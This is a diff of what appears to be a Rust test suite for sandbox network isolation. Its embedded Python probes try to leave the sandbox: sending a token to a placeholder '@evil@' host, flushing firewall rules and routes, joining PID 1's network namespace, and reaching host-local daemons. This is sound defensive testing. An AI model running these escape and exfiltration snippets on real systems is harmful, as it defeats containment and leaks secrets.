@@ -93,17 +93,17 @@ fn ports_and_names() -> Vec<Way> {
 
 /// Names that an operator allowed, and that lead to places where no sandbox may go.
 fn places() -> Vec<Way> {
-    const SELF: &str = "data = send('loop.example.com', @daemon_port@, b'GET /v1/sessions HTTP/1.0\\r\\n\\r\\n'); print('REACHED' if b'HTTP/1' in data and b'own_address' not in data and b'loopback' not in data else data)";
+    const SELF: &str = "data = talk('loop.example.com', @daemon_port@, b'GET /v1/sessions HTTP/1.0\\r\\n\\r\\n'); print('REACHED' if b'HTTP/1' in data and b'own_address' not in data and b'loopback' not in data else data)";
     const RESOLVED: Control = Code("print('REACHED', resolve('good.example.com'))", GOOD);
-    const OWN: &str = "print('REACHED' if b'the host' in send('own.example.com', @host_port@, b'x') else '')";
+    const OWN: &str = "print('REACHED' if b'the host' in talk('own.example.com', @host_port@, b'x') else '')";
     vec![
         way("the daemon by a name", Allow(&["loop.example.com:@daemon_port@"]), SELF, Outside),
         way("the daemon by a private rule", Private("loop.example.com", "@daemon_port@"), SELF, Outside),
         way("the daemon under full", FULL, SELF, Outside),
-        way("the daemon by loopback", FULL, "print('REACHED' if b'HTTP' in send('127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')", Outside),
-        way("the daemon by 0.0.0.0", FULL, "print('REACHED' if b'HTTP' in send('0.0.0.0', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')", Outside),
-        way("the daemon by mapped loopback", FULL, "print('REACHED' if b'HTTP' in send('::ffff:127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')", Outside),
-        way("the host's own address", FULL, "print('REACHED' if b'the host' in send('@host@', @host_port@, b'x') else '')", Under(Allow(&["@host@/32:@host_port@"]))),
+        way("the daemon by loopback", FULL, "print('REACHED' if b'HTTP' in talk('127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')", Outside),
+        way("the daemon by 0.0.0.0", FULL, "print('REACHED' if b'HTTP' in talk('0.0.0.0', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')", Outside),
+        way("the daemon by mapped loopback", FULL, "print('REACHED' if b'HTTP' in talk('::ffff:127.0.0.1', @daemon_port@, b'GET / HTTP/1.0\\r\\n\\r\\n') else '')", Outside),
+        way("the host's own address", FULL, "print('REACHED' if b'the host' in talk('@host@', @host_port@, b'x') else '')", Under(Allow(&["@host@/32:@host_port@"]))),
         way("a name of the host's own address", Allow(&["own.example.com:@host_port@"]), OWN, Under(Private("own.example.com", "@host_port@"))),
         way("a name of the host's own address under full", FULL, OWN, Outside),
         way("a name of 127.9.9.9", Private("loop2.example.com", "80"), "print('REACHED', resolve('loop2.example.com'))", RESOLVED),
@@ -232,7 +232,7 @@ s.bind(('@host@', 53)); s.sendto(b'@token@', ('@evil@', 9999)); s.settimeout(2);
         way("a packet socket", FULL, "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print('REACHED')", Outside),
         way("a virtual machine's socket", FULL, "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('REACHED')", Outside),
         way("an abstract socket of the host", FULL, "s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('\\0@abstract@'); print('REACHED', some_of(s))", Outside),
-        way("TCP Fast Open", GOOD, "s = socket.socket(); s.settimeout(5); s.sendto(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n', 0x20000000, ('@evil@', 80)); shown(some_of(s))", Under(EVIL_ADDRESS)),
+        way("TCP Fast Open", GOOD, "s = socket.socket(); s.sendto(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n', 0x20000000, ('@evil@', 80)); s.settimeout(5); shown(some_of(s))", Under(EVIL_ADDRESS)),
         way("Multipath TCP", GOOD, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(5); s.connect(('@evil@', 80)); s.sendall(b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n'); shown(some_of(s))", OutsideCode("shown(get('@evil@', path='/@token@'))")),
     ]
 }
@@ -245,13 +245,14 @@ fn inside() -> Vec<Way> {
     for port in range(1, 10):
         if send(host, port, b'GET /@token@ HTTP/1.1\\r\\nHost: good.example.com\\r\\n\\r\\n') not in [b'ConnectionRefusedError', b'ConnectionResetError', b' then ConnectionResetError']: print('REACHED', host, port)", Code("s = socket.create_server(('127.0.0.1', 4321)); c = dial('127.0.0.1', 4321); a, _ = s.accept(); a.sendall(b'x'); print('REACHED', some_of(c))", FULL)),
         way("the port of DNS", FULL, "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); s.bind(('192.0.2.53', 53)); print('REACHED')", Code("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('127.0.0.1', 5353)); print('REACHED')", FULL)),
-        way("a new interface", FULL, "import subprocess; print('REACHED' if subprocess.run(['ip', 'link', 'add', 'd0', 'type', 'dummy']).returncode == 0 else '')", OutsideCode("import subprocess; print('REACHED' if subprocess.run(['unshare', '-n', 'ip', 'link', 'add', 'd0', 'type', 'dummy']).returncode == 0 else '')")),
+        way("a new interface", FULL, "import subprocess; print('REACHED' if subprocess.run(['ip', 'link', 'add', 'd0', 'type', 'veth', 'peer', 'name', 'd1']).returncode == 0 else '')", OutsideCode("import subprocess; print('REACHED' if subprocess.run(['unshare', '-n', 'ip', 'link', 'add', 'd0', 'type', 'veth', 'peer', 'name', 'd1']).returncode == 0 else '')")),
         way("other routes", GOOD, "import subprocess; print(subprocess.run('ip route flush table local; ip route add default dev lo; ip -6 route flush table local', shell=True, capture_output=True))\nshown(get('@evil@', path='/@token@'))", OutsideCode(DIAL)),
         way("no packet rules", GOOD, "import subprocess; print(subprocess.run('nft flush ruleset; /usr/sbin/nft flush ruleset', shell=True, capture_output=True))\nshown(get('@evil@', path='/@token@'))", OutsideCode(DIAL)),
         way("a network namespace of its own", GOOD, "import subprocess; print(subprocess.run(['unshare', '-n', 'python3', '-c', 'from client import *\\nshown(get(\"@evil@\", path=\"/@token@\"))'], capture_output=True))", OutsideCode(DIAL)),
         way("a user namespace with all rights", GOOD, "import subprocess; print(subprocess.run(['unshare', '-Urn', 'sh', '-c', 'ip link set lo up; ip route add local 0.0.0.0/0 dev lo; nft flush ruleset; python3 -c \"from client import *; shown(get(\\\\\"@evil@\\\\\", path=\\\\\"/@token@\\\\\"))\"'], capture_output=True))", OutsideCode(DIAL)),
         way("the network of another process", FULL, "import ctypes, os
-fd = os.open('/proc/1/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')", Outside),
+fd = os.open('/proc/1/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')", OutsideCode("import ctypes, os
+fd = os.open('/proc/self/ns/net', os.O_RDONLY); assert ctypes.CDLL(None).setns(fd, 0) == 0; print('REACHED')")),
         way("an interface by name", GOOD, "c = socket.socket(); c.settimeout(3); c.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b'eth0'); c.connect(('@evil@', 80)); c.sendall(b'@token@'); print(c.recv(10))", OutsideCode(DIAL)),
         way("a mark on packets", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, 36, 1); print('REACHED')", Outside),
         way("a transparent socket", FULL, "c = socket.socket(); c.setsockopt(socket.SOL_IP, 19, 1); print('REACHED')", Outside),
